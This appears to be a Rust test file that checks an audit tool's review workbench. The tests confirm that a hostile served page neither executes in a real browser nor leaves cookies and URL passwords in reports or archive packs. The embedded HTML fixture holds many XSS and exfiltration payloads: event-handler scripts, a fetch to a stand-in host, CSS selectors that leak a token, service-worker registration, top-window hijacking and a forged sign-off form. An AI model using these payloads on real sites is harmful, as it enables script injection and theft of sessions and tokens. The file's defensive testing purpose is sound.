//! A page that would do everything to a reviewer's browser does nothing there; and what lets somebody in is kept nowhere.

use std::path::Path;
use std::process::Command;

use super::super::program::{Place, flags};
use super::super::{POLICY, all, code, json, note, offering};
use super::{Workbench, linked};
use crate::hostile::{Call, Hostile, whole};

/// Each way that is known, aimed at the workbench and at elsewhere.
const MARKUP: &str = r#"<!doctype html><html onmouseover="document.title='owned'"><head><title>Open data policy</title>
<base href="http://elsewhere.example/stolen/">
<meta http-equiv="refresh" content="0;url=http://elsewhere.example/stolen-by-refresh">
<link rel="stylesheet" href="http://elsewhere.example/stolen.css"><link rel="prefetch" href="http://elsewhere.example/stolen-ahead">
<link rel="dns-prefetch" href="//stolen.example"><link rel="preconnect" href="http://stolen.example">
<style>@import url(http://elsewhere.example/stolen-import.css);
@font-face{font-family:f;src:url(http://elsewhere.example/stolen.woff)}
body{font-family:f;background:url(http://elsewhere.example/stolen-background)}
input[value^="a"]{background:url(/stolen?token=a)}input[name=token]{background:url(http://elsewhere.example/stolen?token)}</style>
</head><body onload="document.title='owned';alert(1)">
<p>It is the policy of the City that all open data is published by default.</p></mark></pre></iframe></textarea>
<script>document.title='owned';alert(2);fetch('/api/cities').then(()=>fetch('http://elsewhere.example/stolen'));
navigator.serviceWorker.register('/stolen.js');top.location='http://elsewhere.example/stolen-top';window.open('/stolen-window');
document.forms[0].submit();parent.document.title='owned'</script>
<script src="http://elsewhere.example/stolen.js"></script><script type="module">document.title='owned'</script>
<img src="http://elsewhere.example/stolen.png" onerror="alert(3)"><svg onload="alert(4)"><image href="http://elsewhere.example/stolen.svg"/></svg>
<iframe src="javascript:top.document.title='owned'"></iframe><iframe srcdoc="<script>top.document.title='owned'</script>"></iframe>
<iframe src="http://elsewhere.example/stolen-frame"></iframe><object data="http://elsewhere.example/stolen-object"></object>
<embed src="http://elsewhere.example/stolen-embed"><video src="http://elsewhere.example/stolen.mp4" autoplay onerror="alert(5)"></video>
<form action="/runs/none/sign-off?stolen" method="post"><input name="reviewer" value="Eve"><button id="send">Continue</button></form>
<form action="http://elsewhere.example/stolen-form"><input name="token" value="a" autofocus onfocus="alert(6)"></form>
<details open ontoggle="alert(7)"><summary>More</summary></details><a href="javascript:alert(8)" ping="http://elsewhere.example/stolen-ping">link</a>
</body></html>"#;

const COOKIE: &str = "session=c0ffee5ecret; Path=/";

/// A place with a run of a city whose every page is that one, and which sets a cookie.
fn audited() -> Place {
    let city = Hostile::serving(|_: &Call| {
        whole("200 OK", &["content-type: text/html", &format!("set-cookie: {COOKIE}")], MARKUP.as_bytes())
    });
    let place = Place::new();
    place.write("links.csv", offering(&[(POLICY, "http://a.example.gov/policy")]));
    let more = place.leading_to(&city);
    let args = ["audit", "links.csv", "--city", "Example", "--as-of", "2026-11-02", "--pace", "0.02", "--out", "run"];
    place.run(&flags(&args, &more)).with(0);
    place
}

#[test]
fn a_hostile_page_does_nothing_in_a_real_browser() {
    let Some(modules) = std::env::var_os("TICKMARK_AXE") else {
        return note("skipped: TICKMARK_AXE names no folder with playwright-core");
    };
    let place = audited();
    let workbench = Workbench::over(&place);
    let run = format!("/runs/{}", linked(&workbench.page("/"), "/runs/"));
    let mut paths =
        vec![run.clone(), format!("{run}/criteria/what-works-cities/{}", code(POLICY)), format!("{run}/report")];
    let shown = all(&json(&place.path("run/report.json"))["findings"])
        .iter()
        .filter(|finding| !all(&finding["evidence"]).is_empty())
        .take(3)
        .flat_map(|finding| {
            let at = format!("{run}/evidence/{}/0", finding["id"].as_str().unwrap());
            [at.clone(), format!("{at}/body")]
        })
        .collect::<Vec<_>>();
    assert!(!shown.is_empty(), "nothing is shown");
    paths.extend(shown);
    place.write("hostile.html", MARKUP);
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/browser/hostile.js");
    let mut browse = Command::new("timeout");
    browse.args(["180", "node"]).arg(script).arg(format!("http://{}", workbench.address));
    let ran = browse.arg(place.path("hostile.html")).args(&paths).env("TICKMARK_AXE", &modules).output().unwrap();
    let told = String::from_utf8_lossy(&ran.stdout);
    assert!(ran.status.success(), "{told}{}", String::from_utf8_lossy(&ran.stderr));
    assert!(told.contains("skipped") || told.contains(&format!("{} opened", 2 * paths.len())), "{told}");
    assert!(workbench.page(&run).contains("Nothing is decided yet"));
}

#[test]
fn no_cookie_and_no_password_is_kept_in_a_report_or_a_pack() {
    let place = audited();
    place.write("secret.csv", offering(&[(POLICY, "http://ada:h0lm5ecret@a.example.gov/policy")]));
    let refused = place.run(&["audit", "secret.csv", "--city", "Example"]).with(2);
    assert!(refused.error.contains("a.example.gov has a password in it"), "{}", refused.error);
    let mut told = refused.error;
    let mut asked = place.command(&["verify", "run/pack.wacz"]);
    asked.env("TICKMARK_LOG", "trace");
    told.push_str(&String::from_utf8_lossy(&asked.output().unwrap().stderr));
    let mut pack = zip::ZipArchive::new(std::fs::File::open(place.path("run/pack.wacz")).unwrap()).unwrap();
    let mut all_of_it = Vec::new();
    for at in 0..pack.len() {
        let mut file = pack.by_index(at).unwrap();
        if file.name().unwrap().ends_with(".gz") {
            std::io::Read::read_to_end(&mut flate2::read::MultiGzDecoder::new(file), &mut all_of_it).unwrap();
        } else {
            std::io::Read::read_to_end(&mut file, &mut all_of_it).unwrap();
        }
    }
    for entry in std::fs::read_dir(place.path("run")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|kind| kind != "wacz") {
            all_of_it.extend(std::fs::read(path).unwrap());
        }
    }
    told.push_str(&String::from_utf8_lossy(&all_of_it));
    assert!(told.contains("set-cookie: not-kept"), "that a cookie was set is kept");
    for secret in ["c0ffee5ecret", "h0lm5ecret"] {
        let at = told.find(secret).map(|at| &told[at.saturating_sub(150)..at + 50]);
        assert_eq!(at, None, "{secret}");
    }
}
